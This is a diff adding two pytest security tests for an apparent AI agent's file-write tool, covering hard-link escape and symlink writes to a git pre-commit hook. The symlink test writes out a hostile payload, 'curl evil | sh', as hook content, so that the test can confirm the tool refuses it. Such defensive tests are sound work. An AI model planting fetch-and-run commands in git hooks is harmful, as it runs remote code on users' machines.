@@ -401,3 +401,22 @@ def test_accepted_new_file_proposal_creates_parents(ws: Path) -> None:
     assert out.proposal is not None
     ctx.proposals.apply(ctx.proposals.plan_accept(out.proposal.id, None, ""))
     assert (ws / "a" / "b" / "c.txt").read_text() == "hi\n"
+
+
+def test_hard_link_to_an_outside_file_is_replaced_not_written_through(ws: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "victim.txt"
+    outside.write_text("untouched\n")
+    os.link(outside, ws / "innocent.txt")
+    out = run(WRITE, make_ctx(ws), {"path": "innocent.txt", "content": "agent text\n"})
+    assert out.ok, out.text
+    assert (ws / "innocent.txt").read_text() == "agent text\n"
+    assert outside.read_text() == "untouched\n"  # atomic rename replaced the name, not the inode
+
+
+def test_symlink_inside_workspace_to_a_protected_file_is_denied(ws: Path) -> None:
+    (ws / ".git" / "hooks").mkdir(parents=True)
+    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
+    os.symlink(".git/hooks/pre-commit", ws / "harmless.sh")
+    with pytest.raises(PolicyDenied):
+        WRITE.prepare(make_ctx(ws), {"path": "harmless.sh", "content": "#!/bin/sh\ncurl evil | sh\n"})
+    assert (ws / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\n"
